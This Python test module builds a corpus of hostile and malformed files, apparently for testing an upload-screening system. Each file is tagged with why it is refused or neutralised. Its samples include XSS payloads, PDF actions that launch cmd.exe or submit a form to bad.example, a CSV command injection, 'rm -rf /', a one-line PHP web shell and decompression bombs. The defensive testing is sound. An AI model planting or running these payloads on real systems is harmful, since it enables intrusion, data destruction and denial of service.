"""The corpus: hostile and broken files, each made here, with the fault it must be refused for.

A file whose fault is None is taken, but neutralised.
"""

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cached_property

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from certification.files.findings import Fault
from certification.files.viruses import TEST_VIRUS
from tests.certification.evidence import hostile_packages
from tests.certification.evidence.files import make_docx, make_image, make_pdf, make_zip, saved

SCRIPT = b"<html><script>alert(document.cookie)</script></html>"


@dataclass(frozen=True)
class Case:
    """One file: the name it is sent under, how it is made, and why it is refused (None: neutralised)."""

    name: str
    make: Callable[[], bytes]
    fault: Fault | None

    def __str__(self) -> str:
        return self.name

    @cached_property
    def content(self) -> bytes:
        return self.make()  # once for a run: some take a second


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header(width: int, height: int) -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def jpeg_header(width: int, height: int) -> bytes:
    whole = make_image("JPEG")
    at = whole.index(b"\xff\xc0") + 5
    return whole[:at] + struct.pack(">HH", height, width) + whole[at + 4 :]


def png_text_bomb() -> bytes:
    whole = make_image("PNG")
    bomb = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * 80_000_000, 9))
    return whole[:33] + bomb + whole[33:]


def jpeg_with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Telephone maker"
    exif[0x0112] = 6
    exif.get_ifd(0x8825).update({1: "N", 2: (19.0, 54.0, 30.0), 3: "E", 4: (99.0, 49.0, 57.0)})
    return make_image("JPEG", exif=exif)


def png_with_script() -> bytes:
    whole = make_image("PNG")
    return whole[:33] + chunk(b"tEXt", b"XML:com.adobe.xmp\0" + SCRIPT) + whole[33:] + SCRIPT


def pdf_with(spoil: Callable[[pikepdf.Pdf], None], **save) -> bytes:
    with pikepdf.open(io.BytesIO(make_pdf())) as pdf:
        spoil(pdf)
        return saved(pdf, **save)


def action(kind: str, **more) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def on_open(kind: str, **more) -> Callable[[], bytes]:
    def spoil(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(action(kind, **more))

    return lambda: pdf_with(spoil)


def on_link(kind: str, **more) -> Callable[[], bytes]:
    def spoil(pdf: pikepdf.Pdf) -> None:
        link = Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=action(kind, **more)
        )
        pdf.pages[0].Annots = Array([link])

    return lambda: pdf_with(spoil)


def pdf_with_page_script() -> bytes:
    def spoil(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].AA = Dictionary(O=action("JavaScript", JS=pdf.make_stream(b"app.alert(1)")))

    return pdf_with(spoil, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_named_script() -> bytes:
    def spoil(pdf: pikepdf.Pdf) -> None:
        tree = Dictionary(Names=Array([String("x"), action("JavaScript", JS=String("app.alert(1)"))]))
        pdf.Root.Names = Dictionary(JavaScript=tree)

    return pdf_with(spoil)


def pdf_with_attachment() -> bytes:
    def spoil(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["fee.exe"] = b"MZ" + b"\0" * 200

    return pdf_with(spoil)


def pdf_with_attached_note() -> bytes:
    def spoil(pdf: pikepdf.Pdf) -> None:
        inside = Dictionary(F=String("a.bat"), EF=Dictionary(F=pdf.make_stream(b"del /q *")))
        note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=inside)
        pdf.pages[0].Annots = Array([note])

    return pdf_with(spoil)


def pdf_with_xfa() -> bytes:
    def spoil(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))

    return pdf_with(spoil)


def pdf_with_film() -> bytes:
    def spoil(pdf: pikepdf.Pdf) -> None:
        film = Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=Array([0, 0, 9, 9]),
            RichMediaContent=Dictionary(Assets=pdf.make_stream(b"CWS")),
        )
        pdf.pages[0].Annots = Array([film])

    return pdf_with(spoil)


def pdf_without_pages() -> bytes:
    with pikepdf.new() as pdf:
        return saved(pdf)


def pdf_whose_pages_loop() -> bytes:
    def spoil(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Pages.Kids = Array([pdf.Root.Pages])

    return pdf_with(spoil)


def pdf_deeply_nested() -> bytes:
    whole = make_pdf()
    return whole.replace(b"%%EOF", b"9 0 obj " + b"[" * 200_000 + b" endobj\n%%EOF")


def pdf_with_unpacking_bomb() -> bytes:
    """An object stream of some MB that unpacks to 700 MB."""
    packer, packed = zlib.compressobj(1), io.BytesIO()
    for _ in range(84):
        packed.write(packer.compress(b" " * 8_388_608))
    packed.write(packer.flush())
    bomb = packed.getvalue()
    head = b"%%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(bomb)
    table = head + bomb + b"\nendstream endobj\n"
    rows = b"".join(
        struct.pack(">BHB", *row) for row in [(0, 0, 0), (1, 9, 0), (2, 1, 0), (1, len(table) & 0xFFFF, 0)]
    )
    tail = (
        b"3 0 obj<</Type/XRef/Size 4/Root 2 0 R/W[1 2 1]/Length %d>>stream\n%s\nendstream endobj\n"
        b"startxref\n%d\n%%%%EOF" % (len(rows), rows, len(table))
    )
    return table + tail


def pdf_with_a_crowd_of_objects() -> bytes:
    bodies = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page>>"]
    out, places = io.BytesIO(b"%PDF-1.4\n"), []
    out.seek(0, io.SEEK_END)
    for number, body in enumerate([*bodies, *[b"[]"] * 300_000], 1):
        places.append(out.tell())
        out.write(b"%d 0 obj%s endobj\n" % (number, body))
    table = out.tell()
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    out.write(b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, rows))
    out.write(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(places) + 1, table))
    return out.getvalue()


def locked(**passwords: str) -> Callable[[], bytes]:
    return lambda: make_pdf(encryption=pikepdf.Encryption(**{"owner": "", "user": "", **passwords}))


def ole(stream: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + stream.encode("utf-16-le") + b"\0" * 600


F = Fault
PICTURES = [
    Case("moving.jpg", lambda: make_image("GIF"), F.OTHER_PICTURE),
    Case("script.gif", lambda: b"GIF89a=/*" + b"x" * 90 + b"*/1;alert(1)", F.OTHER_PICTURE),
    Case("paint.png", lambda: make_image("BMP"), F.OTHER_PICTURE),
    Case("scan.jpg", lambda: make_image("TIFF"), F.OTHER_PICTURE),
    Case("web.jpg", lambda: make_image("WEBP"), F.OTHER_PICTURE),
    Case("drawing.svg", lambda: b"<svg xmlns='x' onload='alert(1)'/>", F.NOT_TAKEN),
    Case("drawing.png", lambda: b"<?xml version='1.0'?><svg onload='alert(1)'/>", F.NOT_TAKEN),
    Case("page.jpg", lambda: SCRIPT, F.NOT_TAKEN),
    Case("IMG_0001.HEIC", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 400, F.HEIC),
    Case("film.jpg", lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 400, F.NOT_TAKEN),
    Case("cut.jpg", lambda: make_image("JPEG", (900, 900))[:2000], F.BROKEN),
    Case("cut.png", lambda: make_image("PNG", (900, 900))[:-200], F.BROKEN),
    Case("head-only.jpg", lambda: b"\xff\xd8\xff\xe0", F.BROKEN),
    Case("head-only.png", lambda: b"\x89PNG\r\n\x1a\n", F.BROKEN),
    Case("checksum.png", lambda: make_image("PNG")[:30] + b"1234" + make_image("PNG")[34:], F.BROKEN),
    Case("flood.png", lambda: png_header(30_000, 30_000), F.TOO_MANY_PIXELS),
    Case("flood.jpg", lambda: jpeg_header(30_000, 30_000), F.TOO_MANY_PIXELS),
    Case("flood-wide.png", lambda: png_header(2**31 - 1, 2**31 - 1), F.TOO_MANY_PIXELS),
    Case("promise.png", lambda: png_header(6000, 6000), F.BROKEN),
    Case("text-bomb.png", png_text_bomb, F.BROKEN),
    Case("place.jpg", jpeg_with_gps, None),
    Case("comment.jpg", lambda: make_image("JPEG", comment=SCRIPT), None),
    Case("two-in-one.jpg", lambda: make_image("JPEG") + make_docx(), None),
    Case("behind.jpg", lambda: make_image("JPEG") + SCRIPT, None),
    Case("hidden-text.png", png_with_script, None),
    Case("cmyk.jpg", lambda: make_image("JPEG", mode="CMYK", colour=(9, 9, 9, 9)), None),
    Case("virus.jpg", lambda: make_image("JPEG") + TEST_VIRUS, F.VIRUS),
]
PDFS = [
    Case("page.pdf", lambda: SCRIPT, F.NOT_TAKEN),
    Case("page-then-pdf.pdf", lambda: SCRIPT + make_pdf(), F.BROKEN),
    Case("cut.pdf", lambda: make_pdf(40)[:-400], F.BROKEN),
    Case("cut-half.pdf", lambda: make_pdf(40)[:3000], F.BROKEN),
    Case("head-only.pdf", lambda: b"%PDF-1.7", F.BROKEN),
    Case("noise.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF", F.BROKEN),
    Case("no-pages.pdf", pdf_without_pages, F.BROKEN),
    Case("loop.pdf", pdf_whose_pages_loop, F.BROKEN),
    Case("many-pages.pdf", lambda: make_pdf(1001), F.TOO_MANY_PAGES),
    Case("ten-thousand-pages.pdf", lambda: make_pdf(10_000), F.TOO_MANY_PAGES),
    Case("locked.pdf", locked(owner="o", user="u"), F.PASSWORD),
    Case("locked-128.pdf", locked(owner="o", user="u", R=4, aes=True), F.PASSWORD),
    Case("pdf-and-zip.pdf", lambda: make_pdf() + make_zip({"a.txt": "a"}), F.HIDDEN),
    Case("virus.pdf", lambda: make_pdf() + TEST_VIRUS + b"\n%%EOF", F.VIRUS),
    Case("unpacks.pdf", pdf_with_unpacking_bomb, F.BROKEN),
    Case("crowd.pdf", pdf_with_a_crowd_of_objects, F.TOO_HEAVY),
    Case("nested.pdf", pdf_deeply_nested, None),
    Case("huge-page.pdf", lambda: make_pdf(1, (14_400, 14_400)), None),
    Case("no-copying.pdf", locked(owner="o"), None),
    Case("script-on-open.pdf", on_open("JavaScript", JS=String("app.alert(1)")), None),
    Case("program-on-open.pdf", on_open("Launch", F=String("cmd.exe")), None),
    Case("sends-form.pdf", on_link("SubmitForm", F=String("http://bad.example")), None),
    Case("script-link.pdf", on_link("URI", URI=String(" JavaScript:alert(1)")), None),
    Case("file-link.pdf", on_link("URI", URI=String("file:///etc/passwd")), None),
    Case("share-link.pdf", on_link("GoToR", F=String("\\\\bad.example\\share")), None),
    Case("inside-link.pdf", on_link("GoToE", T=Dictionary(R=Name.C, N=String("x"))), None),
    Case("sound.pdf", on_link("Rendition", JS=String("app.alert(1)")), None),
    Case("page-script.pdf", pdf_with_page_script, None),
    Case("named-script.pdf", pdf_with_named_script, None),
    Case("attachment.pdf", pdf_with_attachment, None),
    Case("attached-note.pdf", pdf_with_attached_note, None),
    Case("form-program.pdf", pdf_with_xfa, None),
    Case("film.pdf", pdf_with_film, None),
]
STRANGERS = [
    Case("nothing.pdf", lambda: b"", F.EMPTY),
    Case("one-byte.pdf", lambda: b"%", F.NOT_TAKEN),
    Case("zeros.docx", lambda: b"\0" * 4096, F.NOT_TAKEN),
    Case("note.txt", lambda: "ข้อความ".encode(), F.NOT_TAKEN),
    Case("table.csv", lambda: b"\xef\xbb\xbfa,b\n=cmd|'/c calc'!A1,2", F.NOT_TAKEN),
    Case("eicar.com", lambda: TEST_VIRUS, F.VIRUS),
    Case("fee.pdf.exe", lambda: b"MZ\x90\0" + b"\0" * 400, F.NOT_TAKEN),
    Case("tool.pdf", lambda: b"\x7fELF\x02\x01" + b"\0" * 400, F.NOT_TAKEN),
    Case("run.pdf", lambda: b"#!/bin/sh\nrm -rf /", F.NOT_TAKEN),
    Case("page.php", lambda: b"<?php system($_GET['c']); ?>", F.NOT_TAKEN),
    Case("note.rtf", lambda: b"{\\rtf1\\ansi}", F.NOT_TAKEN),
    Case("pack.rar", lambda: b"Rar!\x1a\x07\0" + b"\0" * 90, F.ARCHIVE),
    Case("pack.7z", lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 90, F.ARCHIVE),
    Case("pack.gz", lambda: b"\x1f\x8b\x08" + b"\0" * 90, F.ARCHIVE),
    Case("old.doc", lambda: ole("WordDocument"), F.OLD_OFFICE),
    Case("old.xls", lambda: ole("Workbook"), F.OLD_OFFICE),
    Case("locked.docx", lambda: ole("EncryptedPackage"), F.PASSWORD),
]
CORPUS = [
    *PICTURES,
    *PDFS,
    *STRANGERS,
    *(Case(name, make, fault) for name, make, fault in hostile_packages.PACKAGES),
]
